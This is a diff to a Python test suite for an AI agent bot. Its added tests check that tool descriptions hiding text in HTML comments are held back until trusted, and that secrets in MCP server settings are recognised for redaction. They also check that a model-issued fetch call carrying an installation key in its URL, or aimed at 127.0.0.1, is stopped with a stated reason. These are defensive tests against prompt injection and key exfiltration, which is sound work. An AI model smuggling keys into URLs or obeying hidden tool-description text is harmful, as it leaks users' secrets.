@@ -11,6 +11,7 @@ from typing import Any
 import pytest
 from markdown_it import MarkdownIt
 
+from bot.settings import read_settings, redaction_of
 from orchestrator.messages import Command
 from tests.conversations.poisons import KEY, NOTE, POISONS, Poison, everything, holds, office, web
 from tests.conversations.talk import Talk, talking
@@ -120,3 +121,50 @@ async def test_nothing_comes_of_a_poison_even_if_the_model_obeys(tmp_path: Path,
 
 def test_there_are_cases_enough() -> None:
     assert len({poison.name for poison in POISONS}) == len(POISONS) >= 40
+
+
+@pytest.mark.proves("trust.command")
+async def test_what_waits_is_told_in_the_status(tmp_path: Path) -> None:
+    poison = next(poison for poison in POISONS if poison.name == "description: hidden in an HTML comment")
+    async with poisoned(tmp_path, poison) as talk:
+        status = await talk.told("/status")
+        assert "weather (it holds hidden text). They run after `errand tools trust web`" in status
+        assert "web__weather" not in await talk.told("/tools")
+
+
+@pytest.mark.proves("trust.secrets")
+@pytest.mark.parametrize("kind", ["headers", "env", "oauth"])
+def test_the_secrets_of_servers_are_known(tmp_path: Path, kind: str) -> None:
+    secrets = {
+        "headers": {"url": "https://a.example/mcp", "headers": {"Authorization": "Bearer fake-4711-of-headers"}},
+        "env": {"command": "a", "env": {"A_TOKEN": "fake-4711-of-env", "MODE": "fast-and-4711"}},
+        "oauth": {"url": "https://a.example/mcp", "oauth": {"clientId": "a", "clientSecret": "fake-4711-of-oauth"}},
+    }
+    (tmp_path / "mcp.json").write_text(json.dumps({"mcpServers": {"a": secrets[kind]}}))
+    known = redaction_of(read_settings(servers=str(tmp_path / "mcp.json")))
+    assert known.holds({"text": [f"It is fake-4711-of-{kind}!"]})
+    assert not known.holds("fast-and-4711")
+
+
+@pytest.mark.proves("trust.secrets", "trust.addresses")
+@pytest.mark.parametrize(
+    ("arguments", "why"),
+    [
+        ({"url": f"https://a.example/?k={KEY}"}, "'url' holds a key or a password of this installation"),
+        ({"url": "http://127.0.0.1/"}, "leads to this machine or a private network"),
+    ],
+)
+async def test_a_call_that_is_stopped_is_told_with_the_reason(
+    tmp_path: Path, arguments: dict[str, str], why: str
+) -> None:
+    def script(request: dict[str, Any]) -> Behaviour:
+        first = request.get("tools") and request["messages"][-1]["role"] == "user"
+        return Call([("web__fetch", arguments)]) if first else Say("That did not work.")
+
+    poison = Poison("no poison")
+    async with (
+        ModelServer(script) as model,
+        talking(tmp_path, toolsets=None, **settings(tmp_path, poison, model)) as talk,
+    ):
+        assert why in await talk.answered("fetch the page for me")
+    assert calls(tmp_path) == []
